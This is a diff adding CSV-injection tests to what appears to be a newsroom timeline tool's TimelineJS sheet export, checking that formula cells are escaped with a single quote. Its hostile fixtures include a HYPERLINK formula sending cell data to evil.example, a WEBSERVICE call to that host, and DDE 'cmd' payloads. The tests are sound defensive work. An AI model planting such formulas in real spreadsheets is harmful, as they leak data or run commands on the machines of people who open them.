@@ -4,11 +4,15 @@ import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { DataError } from '../timeline/problems';
 import type { Timeline } from '../timeline/types';
+import { neutraliseCell, restoreCell } from './formula-cells';
+import { textToHtml } from './html-text';
 import { exportSheet, importSheet, SHEET_COLUMNS } from './sheet';
 import { exportTimelineJs, importTimelineJs } from './timelinejs';
 
 const csv = readFileSync(new URL('./fixtures/newsroom-sheet.csv', import.meta.url), 'utf8');
 const options = { slug: 'bounties', published: '2026-12-04', file: 'sheet.csv' };
+/** A cell a spreadsheet would run: = + - @ tab CR first, unless the cell is a plain number. */
+const LIVE_FORMULA = /^[=@\t\r]|^[+-](?!(\d+(\.\d*)?|\.\d+)$)/;
 const rowsOf = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: 'greedy' }).data;
 
 describe('TimelineJS Google Sheets CSV', () => {
@@ -106,9 +110,21 @@ describe('TimelineJS Google Sheets CSV', () => {
 
 // A hundred generated sheets: seconds of CPU on a loaded machine, hence the timeout.
 describe('sheet round trip (property)', () => {
+	// Words without markup (markup is made safe on export, see safe-html.test.ts), formulas
+	// and minus signs first among them.
+	const words = fc.string().filter((s) => !s.includes('<'));
 	const cell = fc.oneof(
-		fc.string(),
-		fc.constantFrom('a, "quoted" cell', 'two\nlines', '<b>bold</b>')
+		words,
+		words.map((s) => `=${s}`),
+		fc.constantFrom(
+			'a, "quoted" cell',
+			'two\nlines',
+			'<b>bold</b>',
+			'-1+1',
+			"'=x",
+			"''@x",
+			'@SUM(A1)'
+		)
 	);
 	const row = fc.record({
 		Year: fc
@@ -120,10 +136,11 @@ describe('sheet round trip (property)', () => {
 		Text: cell,
 		Media: fc.option(fc.webUrl(), { nil: '' }),
 		'Media Credit': cell,
-		Group: cell,
+		// A group is words to TimelineJS, which strips markup from it; so does the export.
+		Group: words,
 		Notes: cell
 	});
-	it('any sheet of events comes back cell for cell', () => {
+	it('any sheet of events comes back cell for cell, and no cell of it runs as a formula', () => {
 		fc.assert(
 			fc.property(fc.array(row, { minLength: 1, maxLength: 6 }), (rows) => {
 				const columns = [...SHEET_COLUMNS, 'Notes'];
@@ -132,11 +149,82 @@ describe('sheet round trip (property)', () => {
 					...rows.map((r) => columns.map((c) => (r as Record<string, string>)[c] ?? ''))
 				]);
 				const { timeline } = importSheet(text, options);
-				expect(rowsOf(exportSheet(timeline))).toEqual(rowsOf(text));
+				const out = rowsOf(exportSheet(timeline));
+				for (const c of out.flat()) expect(c).not.toMatch(LIVE_FORMULA);
+				// A cell written "'=x" by hand reads as "=x", as our own export's would.
+				const read = rowsOf(text).map((r) => r.map(restoreCell));
+				expect(out.map((r) => r.map(restoreCell))).toEqual(read);
+				expect(importSheet(exportSheet(timeline), options).timeline.events).toEqual(
+					timeline.events
+				);
 			}),
 			{ numRuns: 100 }
 		);
 	}, 60_000);
+});
+
+describe('formulas in a sheet (CSV injection)', () => {
+	const hostile: Timeline = structuredClone(importSheet(csv, options).timeline);
+	hostile.title = '=HYPERLINK("https://evil.example/?"&A1,"Click for the full story")';
+	hostile.events[0]!.title = "+cmd|' /C calc'!A0";
+	hostile.events[0]!.summary = "-2+3+cmd|' /C calc'!A0";
+	hostile.events[1]!.title = "@SUM(1+1)*cmd|' /C calc'!A0";
+	// Columns Dateline keeps without reading them go out as they came in, tabs and all.
+	const notes = ['\t=1+1', '\r=1+1', '=WEBSERVICE("https://evil.example")'];
+	notes.forEach((note, i) => {
+		hostile.events[i]!.extra = {
+			...hostile.events[i]!.extra,
+			csv: { ...(hostile.events[i]!.extra!.csv as object), Notes: note }
+		};
+	});
+	const written = exportSheet(hostile);
+	const cells = rowsOf(written);
+	const column = (name: string) => cells.map((r) => r[cells[0]!.indexOf(name)]!);
+
+	it('writes every cell quoted, and a cell starting with = + - @ tab or CR after a single quote', () => {
+		expect(written.split('\r\n')[0]).toBe(
+			[...SHEET_COLUMNS, 'Notes'].map((c) => `"${c}"`).join(',')
+		);
+		expect(column('Headline')).toContain(`'${textToHtml(hostile.title)}`);
+		expect(column('Headline')).toContain(`'${hostile.events[0]!.title}`);
+		expect(column('Text')).toContain(`'${hostile.events[0]!.summary}`);
+		expect(column('Headline')).toContain(`'${hostile.events[1]!.title}`);
+		expect(column('Notes').slice(-4, -1)).toEqual(notes.map((n) => `'${n}`));
+		for (const c of cells.flat()) expect(c).not.toMatch(LIVE_FORMULA);
+		// A BC year is a number, not a formula: TimelineJS must still read -44 as one.
+		expect(column('Year')).toContain('-44');
+	});
+
+	it('reads its own export back with the words as they were', () => {
+		const again = importSheet(written, options).timeline;
+		expect(again.title).toBe(hostile.title);
+		expect(again.events.map((e) => [e.title, e.summary])).toEqual(
+			hostile.events.map((e) => [e.title, e.summary])
+		);
+		expect(again.events.map((e) => (e.extra!.csv as Record<string, string>).Notes)).toEqual([
+			...notes,
+			undefined
+		]);
+	});
+
+	it.each([
+		['=1+1', "'=1+1"],
+		['+1 in the polls', "'+1 in the polls"],
+		['-', "'-"],
+		['-2+3', "'-2+3"],
+		['@SUM(A1)', "'@SUM(A1)"],
+		['\tindented', "'\tindented"],
+		['\r=1', "'\r=1"],
+		['-44', '-44'],
+		['+3.5', '+3.5'],
+		["'=1+1", "''=1+1"],
+		["'quoted", "'quoted"],
+		['Judge rules', 'Judge rules'],
+		['', '']
+	])('%j is written %j and read back as it was', (cell, written) => {
+		expect(neutraliseCell(cell)).toBe(written);
+		expect(restoreCell(written)).toBe(cell);
+	});
 });
 
 describe('TimelineJS sheets as people write them (fixtures/wild)', () => {
